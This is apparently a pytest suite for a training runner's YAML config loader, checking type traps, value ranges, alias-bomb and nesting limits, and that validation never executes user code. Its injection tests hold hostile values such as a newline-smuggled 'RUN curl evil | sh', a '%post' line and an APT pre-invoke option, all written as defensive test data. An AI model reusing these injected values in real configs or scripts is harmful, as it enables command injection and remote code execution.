"""A config says what it means, cannot inject into a script, and cannot make the loader hang (issue 13).

Each test is one "Why" bullet of issue 13: it failed on the code before the fix.
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

import pytest
import yaml

from runner import cli, spec
from runner.errors import ConfigError
from runner.host import render

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[1]
QUICKSTART_TEXT = (REPO / "conf" / "quickstart.yaml").read_text()
QUICKSTART = yaml.safe_load(QUICKSTART_TEXT)
# Lightning's own demo classes: re-exported from lightning.pytorch.demos' __init__, taking no arguments at all.
BORING = yaml.safe_dump({**QUICKSTART, "model": {"_target_": "lightning.pytorch.demos.BoringModel"},
                         "data": {"_target_": "lightning.pytorch.demos.BoringDataModule"}}, sort_keys=False)


def write(tmp_path: Path, text: str, name: str = "conf.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def problems(path: Path, overrides: list[str] | None = None) -> list[str]:
    with pytest.raises(ConfigError) as err:
        spec.load(path, overrides or [])
    for line in err.value.problems:
        assert "\n" not in line and line.startswith(str(path)), line
    return err.value.problems


def one_problem(tmp_path: Path, overrides: list[str], key: str) -> str:
    found = problems(write(tmp_path, QUICKSTART_TEXT), overrides)
    lines = [p for p in found if f": {key}: " in p]
    assert len(lines) == 1, found
    return lines[0]


# --- YAML 1.1 traps ---------------------------------------------------------------------------------------------

def test_unquoted_slurm_time_stays_hms(tmp_path: Path) -> None:
    path = write(tmp_path, QUICKSTART_TEXT + "slurm:\n  time: 2:00:00\n")
    cfg = spec.load(path)
    assert cfg.data["slurm"]["time"] == "2:00:00"
    assert "#SBATCH --time=2:00:00\n" in render.sbatch(cfg, tmp_path / "run", "none")
    assert spec.load(path, ["slurm.time=1:30:00"]).data["slurm"]["time"] == "1:30:00"


def test_yes_on_and_octal_mean_what_they_say(tmp_path: Path) -> None:
    cfg = spec.load(write(tmp_path, QUICKSTART_TEXT + "env:\n  A: on\n  B: yes\n  C: 010\n"))
    assert cfg.data["env"] == {"A": "on", "B": "yes", "C": 10}
    line = one_problem(tmp_path, ["checkpoint.exact_resume=yes"], "checkpoint.exact_resume")
    assert "write true or false" in line


def test_duplicate_key_names_both_lines(tmp_path: Path) -> None:
    path = write(tmp_path, QUICKSTART_TEXT + "seed: 7\n")
    [line] = problems(path)
    first = QUICKSTART_TEXT.splitlines().index("seed: 1234") + 1
    last = len(QUICKSTART_TEXT.splitlines()) + 1
    assert line.startswith(f"{path}:{last}: ") and f"first at line {first}" in line and "'seed'" in line


# --- values and ranges ------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("override", "key", "needle"), [
    ("trainer.precision=banana", "trainer.precision", "one of transformer-engine"),
    ("resume.backoff_s=.inf", "resume.backoff_s", "a finite number"),
    ("alerts.timeout_s=.nan", "alerts.timeout_s", "a finite number"),
    ("trainer.gradient_clip_val=.inf", "trainer.gradient_clip_val", "a finite number"),
    ("slurm.time=-5", "slurm.time", "a value >= 1"),
    ("slurm.mem=-5", "slurm.mem", "a value >= 0"),
    ("seed=4294967296", "seed", "a value <= 2147483648"),
    ("trainer.max_steps=0", "trainer.max_steps", "-1 (no limit) or a value >= 1"),
    ("trainer.precision=16-mixed", "trainer.precision", "accelerator: cpu"),
    ("name=" + "n" * 101, "name", "1 to 100 letters"),
])
def test_value_ranges_and_choices(tmp_path: Path, override: str, key: str, needle: str) -> None:
    assert needle in one_problem(tmp_path, [override], key)


@pytest.mark.parametrize(("overrides", "blocks"), [
    (["trainer.strategy=fsdp"], []),  # runs on CPU (FSDP2 through Lightning's ModelParallelStrategy, gloo)
    (["trainer.strategy=fsdp", "fsdp.blocks=[Linear]"], ["Linear"]),
])
def test_fsdp_runs_on_cpu_and_names_its_blocks(tmp_path: Path, overrides: list[str], blocks: list[str]) -> None:
    cfg = spec.load(write(tmp_path, QUICKSTART_TEXT), overrides)
    assert cfg.data["trainer"]["strategy"] == "fsdp" and cfg.data["fsdp"]["blocks"] == blocks


def test_all_problems_at_once_including_cross_field_after_a_schema_error(tmp_path: Path) -> None:
    found = problems(write(tmp_path, QUICKSTART_TEXT), ["seed=x", "trainer.devices=3", "trainer.precision=16",
                                                          "container=oops", "dataloader.test=5"])
    keys = sorted(p.split(": ")[1] for p in found)
    assert keys == ["container", "dataloader.test", "seed", "trainer.devices", "trainer.precision"], found


def test_defaults_never_fail_on_a_block_the_user_did_not_write(tmp_path: Path) -> None:
    data = {**QUICKSTART, "dataloader": {"train": {"batch_size": 8}}}
    cfg = spec.load(write(tmp_path, yaml.safe_dump(data)))
    assert cfg.data["dataloader"]["valid"]["dist_world_size"] == 2
    assert cfg.data["dataloader"]["valid"]["total_shards"] == 2


# --- injection ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("override", "key"), [
    ('container.workdir="/ws\\nRUN curl evil | sh"', "container.workdir"),
    ('container.python="python\\n%post\\n  touch /pwned"', "container.python"),
    ('container.base_image="ubuntu\\nRUN id"', "container.base_image"),
    ('container.workdir="relative/dir"', "container.workdir"),
    ('slurm.partition="gpu\\n"', "slurm.partition"),  # a pattern ending in $ matched this
    ('env.FOO="a\\nb"', "env.FOO"),
    ('container.apt=["-oAPT::Update::Pre-Invoke::=id"]', "container.apt[0]"),
    ('container.binds=["/data:/etc"]', "container.binds[0]"),
    ('container.pip=["x\\ty"]', "container.pip[0]"),
    ('container.pip=["x\\Ny"]', "container.pip[0]"),  # NEL (U+0085): a line break to some readers
])
def test_no_newline_or_odd_value_reaches_a_script(tmp_path: Path, override: str, key: str) -> None:
    one_problem(tmp_path, [override], key)


@pytest.mark.parametrize("name", ["RUN_DIR", "RUNNER_PY", "IFS", "PATH", "MASTER_PORT", "SLURM_JOB_ID",
                                  "RUNNER_ATTEMPT", "OMP_NUM_THREADS", "BASH_ENV"])
def test_reserved_env_names_refused(tmp_path: Path, name: str) -> None:
    assert "do not own" in one_problem(tmp_path, [f"env.{name}=x"], f"env.{name}")


def test_runner_preflight_switch_is_a_setting_not_an_env_name(tmp_path: Path) -> None:
    """`runner preflight` sets preflight.only (the resolved config), never a switch in the user's env: block, where a
    RUNNER_ name is refused like every other name runner owns."""
    assert "do not own" in one_problem(tmp_path, ["env.RUNNER_PREFLIGHT_ONLY=1"], "env.RUNNER_PREFLIGHT_ONLY")
    assert spec.load(write(tmp_path, QUICKSTART_TEXT), ["preflight.only=true"]).data["preflight"]["only"] is True
    assert spec.load(write(tmp_path, QUICKSTART_TEXT)).data["preflight"]["only"] is False


@pytest.mark.parametrize(("entry", "needle"), [
    ("/etc", "relative to the config's directory"), ("../outside", "relative to the config's directory"),
    ("missing_dir", "an existing file or directory")])
def test_container_code_inside_the_project_and_present(tmp_path: Path, entry: str, needle: str) -> None:
    line = one_problem(tmp_path, [f'container.code=["runner", "{entry}"]'], "container.code[1]")
    assert needle in line
    (tmp_path / "mycode").mkdir()
    spec.load(write(tmp_path, QUICKSTART_TEXT), ['container.code=["runner", "mycode"]'])


# --- bounded loading ----------------------------------------------------------------------------------------------

# A hang guard, not a speed claim (before the limits these took 35 s to minutes); bench/config_limits times them.
HANG_S = 10.0
BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))


@pytest.mark.parametrize(("text", "needle"), [
    (BOMB, "expand to more than"),
    ("a: &a [*a]\n", "recursive alias"),
    ("a: " + "[" * 100 + "]" * 100 + "\n", "nesting deeper than"),
    ("a: " + "[" * 5000 + "]" * 5000 + "\n", "nesting"),
    ("seed: " + "9" * 5000 + "\n", "below 2**63"),
    ("seed: 1\0\n", "NUL byte"),
    ("seed: !!int 1:00\n", "expected an integer"),
    ("seed: !!bool maybe\n", "true or false"),
    ("model: {x: !!set {a, b}}\n", "found a 'set' value; expected plain YAML"),
    ("model: {x: !!binary aGk=}\n", "found a 'binary' value"),
    ("model: {x: 2020-01-01, y: !!timestamp 2020-01-01}\n", "found a 'timestamp' value"),
])
def test_hostile_yaml_is_one_line_fast(tmp_path: Path, text: str, needle: str) -> None:
    assert len(BOMB) < 2048
    t0 = time.monotonic()
    [line] = problems(write(tmp_path, text))
    assert time.monotonic() - t0 < HANG_S
    assert needle in line


NOT_HERE = "model._target_=only_in_image_pkg.Model"  # arguments of a target not on this host are not checked


def test_interpolation_is_memoised_and_bounded(tmp_path: Path) -> None:
    levels = "".join(f"  a{i}: ${{model.a{i - 1} + model.a{i - 1}}}\n" for i in range(1, 21))
    text = QUICKSTART_TEXT.replace("  lr: 0.01\n", "  lr: 0.01\n  a0: 1\n" + levels)
    t0 = time.monotonic()
    cfg = spec.load(write(tmp_path, text), [NOT_HERE])
    assert time.monotonic() - t0 < HANG_S and cfg.data["model"]["a20"] == 2 ** 20
    strings = "".join(f"  s{i}: ${{model.s{i - 1}}}${{model.s{i - 1}}}\n" for i in range(1, 40))
    text = QUICKSTART_TEXT.replace("  lr: 0.01\n", "  lr: 0.01\n  s0: xx\n" + strings)
    t0 = time.monotonic()
    found = problems(write(tmp_path, text), [NOT_HERE])
    assert time.monotonic() - t0 < HANG_S
    assert any("interpolated string under" in p for p in found)
    chain = "".join(f"  c{i}: ${{model.c{i + 1}}}\n" for i in range(500)) + "  c500: 1\n"
    found = problems(write(tmp_path, QUICKSTART_TEXT.replace("  lr: 0.01\n", "  lr: 0.01\n" + chain)), [NOT_HERE])
    assert len(found) == 51 and "a chain of fewer than" in found[0] and found[-1].endswith("more problems like these")
    loop = problems(write(tmp_path, QUICKSTART_TEXT), [NOT_HERE, "model.x=${model.y}", "model.y=${model.x}"])
    assert loop and all("does not lead back to itself" in p for p in loop)


def test_run_root_that_is_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "afile").write_text("")
    assert "is a file" in one_problem(tmp_path, ["run_root=afile/runs"], "run_root")


def test_cli_one_line_for_roots_that_are_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "afile").write_text("")
    assert cli.main(["cron", "--root", str(tmp_path / "afile")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a file" in err


# --- _target_ without importing ---------------------------------------------------------------------------------

def test_reexported_class_resolves_without_import(tmp_path: Path) -> None:
    path = write(tmp_path, BORING)
    cfg = spec.load(path)
    assert cfg.takes_dataloader is False
    found = problems(path, ["model._target_=lightning.pytorch.demos.BoringModle", "data.batch=3"])
    assert len(found) == 2 and "BoringModle" in found[0] and "data.batch: found 'batch'; expected an argument" \
        in found[1]


def test_module_not_on_host_is_a_note(tmp_path: Path) -> None:
    cfg = spec.load(write(tmp_path, QUICKSTART_TEXT), ["data._target_=espnet_only_in_image.tasks.Data"])
    [note] = cfg.notes
    assert "data._target_" in note and "in the image" in note


def test_validate_never_executes_user_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pkg = tmp_path / "canarypkg"
    pkg.mkdir()
    canary = tmp_path / "canary"
    (pkg / "__init__.py").write_text(f"open({str(canary)!r}, 'w').write('ran')\nfrom .models import Model\n")
    (pkg / "models.py").write_text(f"open({str(canary)!r}, 'w').write('ran')\nclass Model:\n    pass\n")
    path = write(tmp_path, QUICKSTART_TEXT)
    assert cli.main(["validate", str(path), "model._target_=canarypkg.Model"]) == 0
    assert not canary.exists() and "canarypkg" not in sys.modules
    assert cli.main(["validate", str(path), "model._target_=canarypkg.Nope"]) == 2
    assert not canary.exists()
    capsys.readouterr()


# --- the command line ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("target", "status"), [
    ("pkg.Direct", "found"), ("pkg.Renamed", "found"), ("pkg.Star", "found"), ("pkg.sub.deep.Deep", "found"),
    ("pkg.Missing", "missing_name"), ("pkg.sub", "missing_name"), ("lazy.Anything", "unknown"),
    ("absent_pkg.X", "missing_module"), ("not a target", "invalid"), ("pkg.CONST", "found"),
    ("lightning.pytorch.demos.BoringModel", "found"), ("torch.nn.Linear", "found"),
])
def test_static_resolution_table(tmp_path: Path, target: str, status: str) -> None:
    from runner.spec import targets

    (tmp_path / "pkg" / "sub").mkdir(parents=True)
    (tmp_path / "pkg" / "__init__.py").write_text(
        "from .impl import Direct\nfrom .impl import Other as Renamed\nfrom .stars import *\n"
        "if True:\n    CONST = 1\n")
    (tmp_path / "pkg" / "impl.py").write_text("class Direct:\n    pass\nclass Other:\n    pass\n")
    (tmp_path / "pkg" / "stars.py").write_text("def Star(x):\n    return x\n")
    (tmp_path / "pkg" / "sub" / "__init__.py").write_text("")
    (tmp_path / "pkg" / "sub" / "deep.py").write_text("class Deep:\n    def __init__(self, a, *, b=1): ...\n")
    (tmp_path / "lazy.py").write_text("def __getattr__(name):\n    raise AttributeError(name)\n")
    found = targets.resolve(target, tmp_path)
    assert found.status == status, found
    if target == "pkg.sub.deep.Deep":
        assert targets.params(found.node) == {"a", "b"} and targets.accepts(found.node, "dataloader") is False


def test_written_config_reads_back_the_same_with_both_yaml_readers() -> None:
    from runner.spec.load import parse_yaml

    data = {"a": "1e3", "b": "0o17", "c": "2:00:00", "d": "on", "e": "010", "f": 1e3, "g": "2020-01-01", "h": "True"}
    text = spec.dump(data)
    assert parse_yaml(text, "x")[0] == data and yaml.safe_load(text) == data  # the job reads config.yaml with 1.1
